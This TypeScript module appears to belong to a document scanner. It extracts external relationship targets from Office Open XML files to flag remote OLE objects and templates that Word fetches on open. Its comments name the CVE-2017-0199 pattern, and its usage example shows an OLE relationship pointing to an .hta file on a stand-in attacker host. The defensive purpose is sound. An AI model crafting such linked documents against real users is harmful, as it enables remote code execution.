import { decodeEntities } from './html-text.js';

// An Office Open XML document's relationships (`_rels/*.rels`) may name parts outside it (`TargetMode="External"`),
// which Word fetches as the document opens: an OLE object linked to `http://host/run.hta` (the CVE-2017-0199
// shape), a template, a frame. Hyperlinks are left out: a reader follows one only by clicking it, as in a body.
// A tag's attributes end at the next `>` outside quotes (an attribute value may hold `>`, not `<`): each character
// is read once, however the tags are cut.
const RELATIONSHIP = /<(?:[\w.-]{1,64}:)?Relationship\b((?:[^<>"']|"[^<"]*"|'[^<']*')*)/gi;

/** An external relationship's target, and whether Word fetches it as a picture (drawn, never run). */
export interface ExternalTarget {
  target: string;
  picture: boolean;
}

/**
 * The targets of a relationships part's external relationships other than hyperlinks. Linear in its size.
 *
 * @example
 * ```ts
 * externalTargets(Buffer.from('<Relationship Type="…/oleObject" Target="http://evil.example/x.hta" TargetMode="External"/>'));
 * // [{ target: 'http://evil.example/x.hta', picture: false }]
 * ```
 */
export function externalTargets(rels: Buffer): ExternalTarget[] {
  const xml = xmlText(rels);
  if (!/external/i.test(xml) && !xml.includes('&')) return [];
  const targets: ExternalTarget[] = [];
  for (const m of xml.matchAll(RELATIONSHIP)) {
    const attributes = attributesOf(m[1] as string);
    if (attributes.get('targetmode')?.toLowerCase() !== 'external') continue;
    const type = attributes.get('type') ?? '';
    if (/\/hyperlink$/i.test(type)) continue;
    const target = attributes.get('target');
    if (target) targets.push({ target, picture: /\/image$/i.test(type) });
  }
  return targets;
}

// `name="value"` pairs, names lower-cased, values with their references decoded; in one pass.
function attributesOf(tag: string): Map<string, string> {
  const attributes = new Map<string, string>();
  let at = 0;
  while (at < tag.length) {
    const eq = tag.indexOf('=', at);
    if (eq < 0) break;
    const name = tag.slice(at, eq).trim().split(/\s+/).pop() ?? '';
    let start = eq + 1;
    while (start < tag.length && /\s/.test(tag[start] as string)) start++;
    const quote = tag[start];
    if (quote !== '"' && quote !== "'") {
      at = start;
      continue;
    }
    const end = tag.indexOf(quote, start + 1);
    const value = tag.slice(start + 1, end < 0 ? tag.length : end);
    attributes.set(name.toLowerCase(), decodeEntities(value).trim());
    at = end < 0 ? tag.length : end + 1;
  }
  return attributes;
}

// XML as Office reads it: UTF-16 with a byte order mark, or without one when it starts `<` with a NUL beside it
// (XML 1.0 appendix F), else UTF-8.
function xmlText(bytes: Buffer): string {
  if (bytes[0] === 0xff && bytes[1] === 0xfe) return bytes.toString('utf16le', 2);
  if (bytes[0] === 0xfe && bytes[1] === 0xff) return bigEndianText(bytes.subarray(2));
  if (bytes[0] === 0x3c && bytes[1] === 0) return bytes.toString('utf16le');
  if (bytes[0] === 0 && bytes[1] === 0x3c) return bigEndianText(bytes);
  return bytes.toString('utf8');
}

function bigEndianText(bytes: Buffer): string {
  return Buffer.from(bytes.subarray(0, bytes.length & ~1))
    .swap16()
    .toString('utf16le');
}
